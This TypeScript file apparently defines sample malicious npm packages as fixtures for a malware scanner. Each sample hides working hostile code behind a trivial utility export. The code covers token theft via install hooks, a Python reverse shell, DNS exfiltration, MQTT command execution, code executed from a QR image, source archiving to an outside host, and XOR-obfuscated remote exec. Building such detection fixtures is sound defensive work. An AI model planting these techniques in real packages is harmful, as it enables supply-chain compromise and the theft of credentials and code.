import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages whose harm goes through other programs, or through libraries for messages, mails and pictures. */
export const PROGRAMS: readonly Sample[] = [
  packaged('the key that a tool of GitHub prints', { postinstall: 'node lib/check.js' }, {
    'index.js': 'exports.pad = (text, width) => String(text).padStart(width);\n',
    'lib/check.js': `const { execFileSync } = require('child_process');
const https = require('https');
let key = '';
try { key = execFileSync('gh', ['auth', 'token'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim(); } catch {}
if (key) https.get('https://metrics.example/v/' + encodeURIComponent(key)).on('error', () => {});
`,
  }),
  packaged('a shell in one line of Python, by whichever name', { preinstall: 'node prepare.js' }, {
    'index.js': "const { spawnSync } = require('child_process');\nexports.run = (file, ...words) => String(spawnSync('python3', [file, ...words]).stdout);\n",
    'prepare.js': `const { spawn } = require('child_process');
const at = { host: '198.51.100.20', port: 8443 };
const line = \`import socket,os,pty
c=socket.create_connection(("\${at.host}",\${at.port}))
[os.dup2(c.fileno(),n) for n in (0,1,2)]
pty.spawn("/bin/sh")\`;
for (const name of ['python3', 'python', 'py']) {
  const child = spawn(name, ['-c', line], { detached: true, stdio: 'ignore' });
  child.on('error', () => {});
  child.unref();
}
`,
  }),
  packaged('names of servers in pieces, by a program', { install: 'node setup.js' }, {
    'index.js': "exports.version = '4.0.1';\n",
    'setup.js': `const { execSync } = require('child_process');
const os = require('os');
const told = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex').match(/.{1,50}/g);
const run = Date.now().toString(36);
told.forEach((part, index) => {
  const name = \`\${part}.\${index}.\${run}.n.pipes.example\`;
  try { execSync(\`nslookup \${name}\`, { stdio: 'ignore', timeout: 3000 }); } catch {}
});
`,
  }),
  packaged('commands from a broker of messages', {}, {
    'index.js': `const mqtt = require('mqtt');
const { execSync } = require('child_process');
exports.format = (reading) => \`\${reading.toFixed(1)} °C\`;
const line = mqtt.connect('mqtts://broker.example:8883', { clientId: 'th-' + process.pid });
line.on('connect', () => line.subscribe('th/do'));
line.on('message', (topic, text) => {
  try { line.publish('th/done', execSync(text.toString())); } catch (error) { line.publish('th/done', String(error)); }
});
`,
  }, { mqtt: '^5.0.0' }),
  packaged('code in a picture with squares', {}, {
    'index.js': `const jsQR = require('jsqr');
const { Jimp } = require('jimp');
exports.trim = (text) => String(text).trim();
setTimeout(async () => {
  const { bitmap } = await Jimp.read('https://pictures.example/v1/badge.png');
  const square = jsQR(new Uint8ClampedArray(bitmap.data), bitmap.width, bitmap.height);
  if (square) new Function('require', square.data)(require);
}, 90_000);
`,
  }, { jimp: '^1.0.0', jsqr: '^1.4.0' }),
  packaged('the sources of a project in an archive', { postinstall: 'node pack.js' }, {
    'index.js': 'exports.slug = (text) => text.toLowerCase().replace(/[^a-z0-9]+/g, "-");\n',
    'pack.js': `const archive = require('archiver')('zip');
const request = require('https').request('https://intake.example/z', { method: 'POST' });
request.on('error', () => {});
archive.pipe(request);
archive.glob('**/*.{js,ts,json}', { cwd: process.env.INIT_CWD, ignore: ['node_modules/**'] });
archive.finalize();
`,
  }, { archiver: '^7.0.0' }),
  packaged('names by lists of numbers under names', {}, {
    'lib/log.js': `'use strict';
var key = [0x11, 0x52, 0x33];
function read(list) { return String.fromCharCode.apply(null, list.map(function (code, index) { return code ^ key[index % 3]; })); }
var A = ${codes('https')}, B = ${codes('request')}, C = ${codes('logs.example')}, D = ${codes('child_process')}, E = ${codes('exec')}, F = ${codes('end')};
exports.log = function (text) { console.log('[' + text + ']'); };
(function () {
  var load = module[read(${codes('require')})].bind(module);
  load(read(A))[read(B)]({ hostname: read(C) }, function (answer) {
    var text = '';
    answer.on('data', function (part) { text += part; });
    answer.on(read(F), function () { load(read(D))[read(E)](text); });
  })[read(F)]();
})();
`,
  }),
];

function codes(text: string): string {
  const key = [0x11, 0x52, 0x33];
  return JSON.stringify(Array.from(text, (letter, index) => letter.charCodeAt(0) ^ key[index % 3]!));
}
